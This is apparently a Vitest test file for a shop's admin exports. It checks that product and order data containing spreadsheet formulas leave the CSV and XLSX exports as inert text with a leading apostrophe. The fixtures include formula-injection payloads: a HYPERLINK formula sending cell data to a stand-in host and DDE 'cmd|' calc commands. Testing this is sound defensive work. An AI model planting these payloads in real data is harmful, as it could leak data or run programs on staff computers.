import { orders, products } from '@vitrin/core/db/schema';
import { billing, type OrderWorld } from '@vitrin/testing/orders';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from '../../../../test/accounts.ts';
import { type AdminWorld, openAdminWorld } from '../../../../test/staff.ts';
import { multipartForm } from '../../../../test/uploads.ts';

/**
 * Formula injection (OWASP "CSV injection"): a text someone outside the staff wrote (a customer's name, a
 * supplier's product name) that starts like a formula must reach the staff's spreadsheet as text, in the CSV
 * and in the XLSX, and the product import must read the guarded text back as it was.
 */
let world: AdminWorld<'manager'>;
let w: OrderWorld;
let manager: Browser;
beforeAll(async () => {
  world = await openAdminWorld('manager');
  ({ w } = world);
  manager = world.as.manager.b;
}, 120_000);
afterAll(() => world.close());

/** One of each way a cell can start a formula: `=`, `+`, `-`, `@`, a tab, a carriage return. */
const FORMULAS = {
  name: '=HYPERLINK("https://kotu.example/?d="&A1;"Tıkla")',
  brand: "@SUM(1+1)*cmd|' /C calc'!A0",
  shortDescription: '+90 532 000 00 00',
  description: '-2+3',
};

const sheetOf = async (bytes: Buffer) => {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  return book.worksheets[0]!;
};

/** The XLSX row whose first cell is `first`, as column title → value. */
const xlsxRow = async (bytes: Buffer, first: string) => {
  const sheet = await sheetOf(bytes);
  const titles = Array.from(sheet.getRow(1).values as unknown[], String);
  let found: Record<string, unknown> | undefined;
  sheet.eachRow((row) => {
    const values = row.values as unknown[];
    if (values[1] === first) found = Object.fromEntries(titles.map((title, i) => [title, values[i]]));
  });
  return found!;
};

/** The import's dry run of an export: what it would create, update and leave. */
const dryRunOf = async (ext: 'csv' | 'xlsx') => {
  const file = await manager.get(`/api/admin/exports/products.${ext}`);
  const dry = await manager.request({
    method: 'POST',
    url: '/api/admin/imports/products?dryRun=1',
    ...multipartForm(
      {},
      { name: `urunler.${ext}`, type: 'application/octet-stream', bytes: file.rawPayload },
    ),
  });
  expect(dry.statusCode).toBe(200);
  return dry.json().summary;
};

describe('the products export', () => {
  let before: Record<'csv' | 'xlsx', unknown>;
  beforeAll(async () => {
    before = { csv: await dryRunOf('csv'), xlsx: await dryRunOf('xlsx') };
    await w.db
      .update(products)
      .set({
        name: FORMULAS.name,
        brand: FORMULAS.brand,
        shortDescription: FORMULAS.shortDescription,
        description: FORMULAS.description,
      })
      .where(eq(products.sku, 'KUPA'));
    await w.db.update(products).set({ name: '\rTabak' }).where(eq(products.sku, 'TABAK'));
  });

  it('writes every formula-like text with a leading apostrophe in the CSV', async () => {
    const res = await manager.get('/api/admin/exports/products.csv');
    expect(res.statusCode).toBe(200);
    const line = res.body.split('\r\n').find((l) => l.startsWith('KUPA;'))!;
    expect(line).toContain(`;"'=HYPERLINK(""https://kotu.example/?d=""&A1;""Tıkla"")";`);
    expect(line).toContain(";'@SUM(1+1)*cmd|' /C calc'!A0;");
    expect(line).toContain(";'+90 532 000 00 00;");
    expect(line).toContain(";'-2+3;");
    // A carriage return is quoted, and guarded first.
    expect(res.body).toContain(`\r\nTABAK;;"'\rTabak";`);
    expect(res.body).not.toMatch(/;=|;\+|;@|;-2/);
  });

  it('writes them as text cells with a leading apostrophe in the XLSX, never a formula', async () => {
    const res = await manager.get('/api/admin/exports/products.xlsx');
    expect(res.statusCode).toBe(200);
    const row = await xlsxRow(res.rawPayload, 'KUPA');
    expect(row).toMatchObject({
      'Ürün Adı': `'${FORMULAS.name}`,
      Marka: `'${FORMULAS.brand}`,
      'Kısa Açıklama': `'${FORMULAS.shortDescription}`,
      Açıklama: `'${FORMULAS.description}`,
    });
    // XML keeps a carriage return as a line feed; the apostrophe stays in front.
    expect((await xlsxRow(res.rawPayload, 'TABAK'))['Ürün Adı']).toBe("'\nTabak");
    const sheet = await sheetOf(res.rawPayload);
    sheet.eachRow((r) =>
      r.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });

  it('is read back by the import as it was written: the same to change as before the names were', async () => {
    // A name with a line break is no name the import takes (a workbook turns the CR into LF anyway).
    await w.db.update(products).set({ name: 'Tabak' }).where(eq(products.sku, 'TABAK'));
    for (const ext of ['csv', 'xlsx'] as const) expect(await dryRunOf(ext)).toEqual(before[ext]);
  });
});

describe('the orders export', () => {
  const DAY = '2025-03-04';
  beforeAll(async () => {
    const { id } = await w.placeOrder({ email: 'formul@ornek.test' });
    await w.db
      .update(orders)
      .set({
        createdAt: new Date(`${DAY}T09:00:00Z`),
        billingAddress: { ...billing, firstName: '=cmd|', lastName: "'/C calc'!A0" },
      })
      .where(eq(orders.id, id));
  });

  it('guards a customer’s formula-like name in the CSV', async () => {
    const res = await manager.get(`/api/admin/exports/orders.csv?from=${DAY}&to=${DAY}`);
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain(";'=cmd| '/C calc'!A0;formul@ornek.test;");
  });

  it('and in the XLSX, as a text cell', async () => {
    const res = await manager.get(`/api/admin/exports/orders.xlsx?from=${DAY}&to=${DAY}`);
    expect(res.statusCode).toBe(200);
    const sheet = await sheetOf(res.rawPayload);
    const cell = sheet.getRow(2).getCell(6);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe("'=cmd| '/C calc'!A0");
  });
});
